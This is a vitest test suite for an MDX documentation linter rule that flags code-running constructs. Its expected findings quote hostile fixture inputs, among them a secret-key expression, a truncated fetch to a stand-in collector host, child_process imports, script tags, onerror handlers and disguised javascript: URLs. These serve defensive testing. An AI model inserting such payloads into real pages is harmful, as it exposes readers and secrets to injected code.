import { join } from 'node:path';
import type { Root } from 'mdast';
import { describe, expect, test } from 'vitest';
import mdxSafety from '../../lint-rules/mdx-safety.ts';
import { checkMdxSafety, mdxSafetyOptions, type MdxSafetyOptions } from '../../src/lib/markdown/mdx-safety.ts';
import { parseDocument } from '../../src/lib/markdown/parse.ts';
import { linesOf, lintFixture, RULE_FIXTURES } from '../support/fixtures.ts';

const RULE = 'opskb:mdx-safety';
const ONLY_CALLOUTS = 'only `Warning`, `Danger`, `Note` may be used in docs (MDX runs at build time). Remove it or ask for it to be added to the allowlist.';
const ONLY_HTML =
  'docs may use only `details`, `summary`, `kbd`, `br`, `sub`, `sup`, `abbr` from HTML (MDX compiles tags to JavaScript). Write Markdown instead, or ask for it to be added to the allowlist.';
const NEVER_HTML =
  "is never allowed in docs: it can run or load code, or restyle the page, in readers' browsers. Remove it; to show it as an example, put it in a fenced code block.";
const IMPORT_POLICY = 'docs may import only `Warning`, `Danger`, `Note` from `@opskb/mdx`.';
const EXPRESSION = 'is not allowed: MDX expressions run at build time. Write the text literally or put it in backticks.';

/** `line:column message` for the findings of `checkMdxSafety` on an MDX snippet. */
function check(mdx: string, options?: Partial<MdxSafetyOptions>): string[] {
  return linesOfTree(parseDocument(mdx, 'mdx'), options);
}

function linesOfTree(tree: Root, options?: Partial<MdxSafetyOptions>): string[] {
  return checkMdxSafety(tree, mdxSafetyOptions.parse(options ?? {})).map(({ place, message }) => `${place?.line}:${place?.column} ${message}`);
}

describe('opskb:mdx-safety', () => {
  test('a runbook using callouts, comments, an allowed import and <details> has no findings at all', async () => {
    expect(await lintFixture('mdx-safety/valid.mdx')).toEqual([]);
  });

  test('every construct that runs code is an error at its exact position', async () => {
    expect(linesOf(await lintFixture('mdx-safety/invalid.mdx'), RULE)).toEqual([
      `10:1 Import from \`node:child_process\` is not allowed: ${IMPORT_POLICY}`,
      `11:1 Import of \`Chart as Graph\` from \`@opskb/mdx\` is not allowed: ${IMPORT_POLICY}`,
      `12:1 Import of \`* as mdx\` from \`@opskb/mdx\` is not allowed: ${IMPORT_POLICY}`,
      '13:1 Export `export const meta = { reviewed: execSyn…` is not allowed: docs export nothing, and the code in an export runs at build time. Remove it; put data in the frontmatter.',
      `21:1 JavaScript expression \`{process.env.AWS_SECRET_ACCESS_KEY}\` ${EXPRESSION}`,
      `25:24 JavaScript expression \`{ordersPerMinute * 5}\` ${EXPRESSION}`,
      `25:67 JSX component \`<Graph>\` is not allowed: ${ONLY_CALLOUTS}`,
      `29:1 JSX component \`<Chart>\` is not allowed: ${ONLY_CALLOUTS}`,
      '31:1 JSX component `<Foo.Bar>` is not allowed: only `Warning`, `Danger`, `Note` may be used in docs, by their plain name (MDX runs at build time). Remove it.',
      '33:1 JSX fragment `<>` is not allowed: fragments are JSX, which runs at build time, and Markdown needs none. Remove `<>` and `</>` and keep what is between them.',
      `35:1 HTML element \`<div>\` is not allowed: ${ONLY_HTML}`,
      `37:1 HTML element \`<script>\` ${NEVER_HTML}`,
      `39:1 HTML element \`<iframe>\` ${NEVER_HTML}`,
      `41:1 HTML element \`<style>\` ${NEVER_HTML}`,
      `41:8 JavaScript expression \`{'body { display: none }'}\` ${EXPRESSION}`,
      '45:10 Attribute ``title={`Deploy ${version}`}`` on `<Warning>` is not allowed: attribute values that are JavaScript expressions run at build time. Use a plain string instead, e.g. `title="…"`.',
      '45:38 Spread attribute `{...props}` on `<Warning>` is not allowed: it runs JavaScript at build time. Write each attribute out as a plain string, e.g. `title="…"`.',
      `46:14 JSX component \`<Chart>\` is not allowed: ${ONLY_CALLOUTS}`,
      "49:10 Event handler attribute `onToggle` on `<details>` is not allowed: it runs JavaScript in readers' browsers. Remove it.",
      "50:12 Directive attribute `set:html` on `<summary>` is not allowed: Astro directives inject raw HTML or ship scripts to readers' browsers. Remove it.",
      `55:1 HTML element \`<img>\` is not allowed: ${ONLY_HTML}`,
      "55:14 Event handler attribute `onerror` on `<img>` is not allowed: it runs JavaScript in readers' browsers. Remove it.",
      `57:1 HTML element \`<a>\` is not allowed: ${ONLY_HTML}`,
      "57:4 Attribute `href` on `<a>` holds a `javascript:` URL, which runs JavaScript in readers' browsers. Link to an https address instead.",
      `61:14 JavaScript expression \`{fetch('https://collector.example/', { m…}\` ${EXPRESSION}`,
    ]);
  });

  test('findings are errors and carry the rule id and its reference page', async () => {
    const [finding] = (await lintFixture('mdx-safety/invalid.mdx')).filter((each) => each.ruleId === RULE);
    expect(finding).toMatchObject({ severity: 'error', ruleId: RULE, url: '/rules/mdx-safety/' });
  });

  test('in a .md file, braces, imports and JSX-looking text are Markdown text; only raw HTML that runs code is refused', async () => {
    expect(linesOf(await lintFixture('mdx-safety/markdown-html.md'), RULE)).toEqual([
      "15:1 Raw HTML with `<script>` would run or load code in readers' browsers: remove it. Docs are text; link to a dashboard or a page instead.",
      "23:1 Raw HTML with the event handler `onclick` would run or load code in readers' browsers: remove it. Docs are text; link to a dashboard or a page instead.",
    ]);
  });

  test('the allowlists come from `rules.mdx-safety` in opskb.yaml', async () => {
    const contentDir = join(RULE_FIXTURES, 'mdx-safety', 'kb-custom');
    expect(linesOf(await lintFixture('mdx-safety/custom-allowlist.mdx', { contentDir }), RULE)).toEqual([
      '10:1 Import of `Note` from `@opskb/mdx` is not allowed: docs may import only `Warning`, `Chart` from `@opskb/mdx` or `@storefront/charts`.',
      '24:1 JSX component `<Note>` is not allowed: only `Warning`, `Chart` may be used in docs (MDX runs at build time). Remove it or ask for it to be added to the allowlist.',
      '28:23 HTML element `<kbd>` is not allowed: docs may use only `details`, `summary`, `img` from HTML (MDX compiles tags to JavaScript). Write Markdown instead, or ask for it to be added to the allowlist.',
    ]);
  });

  test('invalid options are reported at their line in opskb.yaml, and the rule falls back to its defaults', async () => {
    const contentDir = join(RULE_FIXTURES, 'mdx-safety', 'kb-bad-options');
    const findings = await lintFixture('mdx-safety/custom-allowlist.mdx', { contentDir });
    expect(findings.filter((finding) => finding.path.endsWith('opskb.yaml')).map((finding) => `${finding.line}:${finding.column} ${finding.message}`)).toEqual([
      '4:27 `components[1]` in the options of rule `mdx-safety`: expected a component name such as `Warning` (a capital letter, then letters and digits); found `note`.',
      "5:29 `htmlElements[1]` in the options of rule `mdx-safety`: `script` can run or load code in readers' browsers and is never allowed; remove it.",
      "6:5 `importSources` in the options of rule `mdx-safety`: expected a list of module names such as `['@opskb/mdx']`.",
    ]);
    expect(linesOf(findings, RULE).map((line) => line.split(' ').slice(0, 4).join(' '))).toEqual([
      '9:1 Import from `@storefront/charts`',
      '16:1 JSX component `<Chart>`',
      '20:18 HTML element `<img>`',
    ]);
  });
});

describe('checkMdxSafety', () => {
  const allowed: [what: string, mdx: string, options?: Partial<MdxSafetyOptions>][] = [
    ['a block comment', '{/* Reviewed after the November incident. */}'],
    ['a lint directive', 'Text {/* lint disable-next-line opskb:no-secrets -- a documented example key */} more text.'],
    ['a line comment', '{// reviewed\n}'],
    ['string and boolean attributes on callouts', '<Warning title="Irreversible" collapsed>\n  Deleting the topic drops events.\n</Warning>'],
    ['safe HTML with a plain attribute', '<details open><summary>Why</summary>Cold caches.</details> <abbr title="time to first byte">TTFB</abbr>'],
    ['allowlisted names from the allowed source', "import { Warning, Note } from '@opskb/mdx'"],
    ['a link with an https URL in an allowlisted tag', '<a href="https://status.example">status</a>', { htmlElements: ['a'] }],
  ];
  test.each(allowed)('allows %s', (_what, mdx, options) => {
    expect(check(mdx, options)).toEqual([]);
  });

  test('checks nested content inside allowed components and inside refused ones', () => {
    expect(check('<Warning>\n  <Note>\n    <Chart />\n  </Note>\n</Warning>\n\n<Chart>{secret}</Chart>')).toEqual([
      `3:5 JSX component \`<Chart>\` is not allowed: ${ONLY_CALLOUTS}`,
      `7:1 JSX component \`<Chart>\` is not allowed: ${ONLY_CALLOUTS}`,
      `7:8 JavaScript expression \`{secret}\` ${EXPRESSION}`,
    ]);
  });

  test('refuses default, side-effect and renamed imports, and every kind of export', () => {
    expect(
      check(
        "import Warning from '@opskb/mdx'\nimport '@opskb/mdx'\nimport { Warning as Box } from '@opskb/mdx'\nexport default function Layout() {}\nexport * from './other.js'",
      ),
    ).toEqual([
      `1:1 Import of \`default as Warning\` from \`@opskb/mdx\` is not allowed: ${IMPORT_POLICY}`,
      '2:1 Import of `@opskb/mdx` for its side effects is not allowed: docs may import only `Warning`, `Danger`, `Note` from `@opskb/mdx`, by name.',
      `3:1 Import of \`Warning as Box\` from \`@opskb/mdx\` is not allowed: ${IMPORT_POLICY}`,
      '4:1 Export `export default function Layout() {}` is not allowed: docs export nothing, and the code in an export runs at build time. Remove it; put data in the frontmatter.',
      "5:1 Export `export * from './other.js'` is not allowed: docs export nothing, and the code in an export runs at build time. Remove it; put data in the frontmatter.",
    ]);
  });

  test('refuses event handlers in any case, and script URLs however they are disguised', () => {
    expect(
      check(
        '<details ONCLICK="x" onmouseover="y">\n<summary>s</summary>\n</details>\n\n<a href={"javascript:x"} src=" JaVa\tScRiPt:x" cite="vbscript:x" title="javascript: is text here">a</a>',
        { htmlElements: ['details', 'summary', 'a'] },
      ),
    ).toEqual([
      "1:10 Event handler attribute `ONCLICK` on `<details>` is not allowed: it runs JavaScript in readers' browsers. Remove it.",
      "1:22 Event handler attribute `onmouseover` on `<details>` is not allowed: it runs JavaScript in readers' browsers. Remove it.",
      '5:4 Attribute `href={"javascript:x"}` on `<a>` is not allowed: attribute values that are JavaScript expressions run at build time. Use a plain string instead, e.g. `href="…"`.',
      "5:26 Attribute `src` on `<a>` holds a `javascript:` URL, which runs JavaScript in readers' browsers. Link to an https address instead.",
      "5:47 Attribute `cite` on `<a>` holds a `vbscript:` URL, which runs JavaScript in readers' browsers. Link to an https address instead.",
    ]);
  });

  test('refuses Astro directives and namespaced names', () => {
    expect(check('<Note client:load is:raw="">x</Note> <svg:rect />')).toEqual([
      "1:7 Directive attribute `client:load` on `<Note>` is not allowed: Astro directives inject raw HTML or ship scripts to readers' browsers. Remove it.",
      "1:19 Directive attribute `is:raw` on `<Note>` is not allowed: Astro directives inject raw HTML or ship scripts to readers' browsers. Remove it.",
      '1:38 JSX component `<svg:rect>` is not allowed: only `Warning`, `Danger`, `Note` may be used in docs, by their plain name (MDX runs at build time). Remove it.',
    ]);
  });

  test('uppercase and custom-element names are not plain HTML', () => {
    expect(check('<SCRIPT>x</SCRIPT> <status-badge />')).toEqual([
      `1:1 JSX component \`<SCRIPT>\` is not allowed: ${ONLY_CALLOUTS}`,
      `1:20 HTML element \`<status-badge>\` is not allowed: ${ONLY_HTML}`,
    ]);
  });

  test('uses the allowlists it is given', () => {
    const options = { components: ['Callout'], htmlElements: [], importSources: ['@acme/docs'] };
    expect(
      check("import { Callout } from '@acme/docs'\nimport { Warning } from '@opskb/mdx'\n\n<Callout kind=\"tip\">Hi</Callout> <Warning /> <br />", options),
    ).toEqual([
      '2:1 Import from `@opskb/mdx` is not allowed: docs may import only `Callout` from `@acme/docs`.',
      '4:34 JSX component `<Warning>` is not allowed: only `Callout` may be used in docs (MDX runs at build time). Remove it or ask for it to be added to the allowlist.',
      '4:46 HTML element `<br>` is not allowed: docs may use no HTML tags (MDX compiles tags to JavaScript). Write Markdown instead, or ask for it to be added to the allowlist.',
    ]);
  });

  test('with no components allowed, says so instead of listing none', () => {
    expect(check("import { Note } from '@opskb/mdx'\n\n<Note />", { components: [] })).toEqual([
      '1:1 Import of `Note` from `@opskb/mdx` is not allowed: docs may import nothing.',
      '3:1 JSX component `<Note>` is not allowed: no JSX components may be used in docs (MDX runs at build time). Remove it or ask for it to be added to the allowlist.',
    ]);
  });

  test('shows expressions on one line, cut to about 40 characters, in a code span that survives backticks', () => {
    expect(check('{`a`}\n\n{[\n  1,\n  2,\n]}\n\n{"0123456789".repeat(10) + "0123456789abcdefghij"}')).toEqual([
      `1:1 JavaScript expression \`\`{\`a\`}\`\` ${EXPRESSION}`,
      `3:1 JavaScript expression \`{[ 1, 2, ]}\` ${EXPRESSION}`,
      `8:1 JavaScript expression \`{"0123456789".repeat(10) + "0123456789ab…}\` ${EXPRESSION}`,
    ]);
  });

  test('without the parser’s syntax trees, still allows comments and refuses everything else', () => {
    const tree = parseDocument("import { Note } from '@opskb/mdx'\n\n{/* a */}\n\n{/* a */ x /* b */}", 'mdx');
    for (const node of tree.children) delete node.data;
    expect(linesOfTree(tree)).toEqual([
      "1:1 Import/export block `import { Note } from '@opskb/mdx'` could not be checked: docs may import only `Warning`, `Danger`, `Note` from `@opskb/mdx`. Remove it.",
      `5:1 JavaScript expression \`{/* a */ x /* b */}\` ${EXPRESSION}`,
    ]);
  });
});

describe('mdx-safety options', () => {
  test('default to the callouts, a few safe HTML tags and @opskb/mdx', () => {
    expect(mdxSafetyOptions.parse({})).toEqual({
      components: ['Warning', 'Danger', 'Note'],
      htmlElements: ['details', 'summary', 'kbd', 'br', 'sub', 'sup', 'abbr'],
      importSources: ['@opskb/mdx'],
    });
    expect(mdxSafety.meta).toMatchObject({ id: 'mdx-safety', optionsSchema: mdxSafetyOptions });
  });

  test.each(['script', 'iframe', 'style', 'object', 'embed'])('never allow `<%s>`, whatever the configuration', (tag) => {
    const result = mdxSafetyOptions.safeParse({ htmlElements: ['details', tag] });
    expect(result.error?.issues.map((issue) => [issue.path, issue.message])).toEqual([
      [['htmlElements', 1], `\`${tag}\` can run or load code in readers' browsers and is never allowed; remove it`],
    ]);
  });

  test('reject unknown keys', () => {
    expect(mdxSafetyOptions.safeParse({ component: ['Chart'] }).success).toBe(false);
  });
});
